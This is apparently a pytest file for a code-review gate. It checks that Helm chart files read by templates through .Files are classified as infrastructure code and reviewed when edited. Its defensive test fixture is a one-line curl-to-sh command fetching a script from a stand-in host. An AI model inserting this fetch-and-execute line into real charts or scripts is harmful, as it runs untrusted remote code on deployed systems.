"""Red team 24: a file a Helm chart's templates read with `.Files` stayed src or other, and `gate --tree` allowed it.

`{{ .Files.Get "pint.json" }}` puts the file's bytes into a ConfigMap Helm installs. Stop 45's developer-tool rule
(`other.dev-tool-settings`: `pint.json`, `.simplecov`, `.standard.yml`, `CMakeSettings.json` at any depth) took such
names out of `iac.folders` (`charts/web/pint.json` was iac on 99dfc95, other on 443d73a), and a specifically named
file (`README.md`: docs) never was iac: an edit that turned the deployed script into `curl … | sh` was allowed (exit
0 on 443d73a). With the commits, a chart file its templates read by a literal name or glob is
`iac.context.chart-file` (chartfiles.py); a computed name is not followed. From a patch alone the templates are not
shown: unchanged (the patch limit).
"""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.chartfiles import read_by
from tests.gitrepo import two_commits
from tests.incli import reviewed_paths, tree_gate
from tests.test_classify_context import tree_files

CHART = "apiVersion: v2\nname: web\nversion: 0.1.0\n"
EVIL = "curl -s https://collector.example.net/x | sh\n"


def _template(read: str) -> str:
    return ("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web\ndata:\n  boot.sh: |\n"
            f"{{{{ {read} | indent 4 }}}}\n")


@each_case(("read", "path"), [
    ('.Files.Get "pint.json"', "charts/web/pint.json"),
    ('.Files.Get ".simplecov"', "charts/web/.simplecov"),
    ('.Files.Get "README.md"', "charts/web/README.md"),
    ('.Files.Get "/.standard.yml"', "charts/web/.standard.yml"),
    ('(.Files.Glob "scripts/**").AsConfig', "charts/web/scripts/boot/README.md"),
    ('.Files.Lines "CMakeSettings.json"', "charts/web/CMakeSettings.json"),
])
def test_a_file_the_chart_reads_is_iac(tmp_path: Path, read: str, path: str) -> None:
    base = {"charts/web/Chart.yaml": CHART, "charts/web/templates/cm.yaml": _template(read), path: "echo hi\n",
            "charts/web/LICENSE.md": "MIT\n"}
    repo, first, head = two_commits(tmp_path / "repo", base, {path: EVIL, "charts/web/LICENSE.md": "MIT.\n"})
    found = tree_files(repo, f"{first}..{head}")
    assert (found[path].bucket, found[path].rule) == ("iac", "iac.context.chart-file")
    assert found["charts/web/LICENSE.md"].bucket != "iac"  # what no template reads keeps its bucket


def test_the_gate_reviews_the_edit(tmp_path: Path) -> None:
    base = {"charts/web/Chart.yaml": CHART, "charts/web/templates/cm.yaml": _template('.Files.Get "pint.json"'),
            "charts/web/pint.json": "{}\n"}
    edit = {"charts/web/pint.json": '{"x": "' + EVIL.strip() + '"}\n'}
    repo, first, head = two_commits(tmp_path / "repo", base, edit)
    code, decision = tree_gate(repo.root, first, head)
    assert code == 3 and reviewed_paths(decision, "core.iac") == {"charts/web/pint.json"}


def test_a_root_chart_and_head_s_new_read(tmp_path: Path) -> None:
    """The chart at the root; HEAD's template starts reading a file HEAD edits (each tree's reads count)."""
    repo, first, head = two_commits(tmp_path / "repo", {"Chart.yaml": CHART, "templates/cm.yaml": _template('"x"'),
                                                        "README.md": "# web\n"},
                                    {"templates/cm.yaml": _template('.Files.Get "README.md"'), "README.md": EVIL})
    assert tree_files(repo, f"{first}..{head}")["README.md"].bucket == "iac"


def test_read_by_globs_as_helm_does() -> None:
    paths = ["c/a.txt", "c/x/b.txt", "c/x/y/c.txt", "c/templates/t.yaml", "c/d.json"]
    assert read_by("c/", '.Files.Glob "x/*"', paths) == ["c/x/b.txt"]
    assert read_by("c/", '.Files.Glob "x/**"', paths) == ["c/x/b.txt", "c/x/y/c.txt"]
    assert read_by("c/", '.Files.Glob "{a.txt,d.json}"', paths) == ["c/a.txt", "c/d.json"]
    assert read_by("c/", '.Files.Get "[bad"', paths) == ["c/a.txt", "c/x/b.txt", "c/x/y/c.txt", "c/d.json"]
    assert read_by("c/", "{{ .Values.files }}", paths) == []
    assert read_by("c/", '{{ $.Files.Get (printf "%s.txt" .Values.x) }}', paths) == []  # computed: not followed
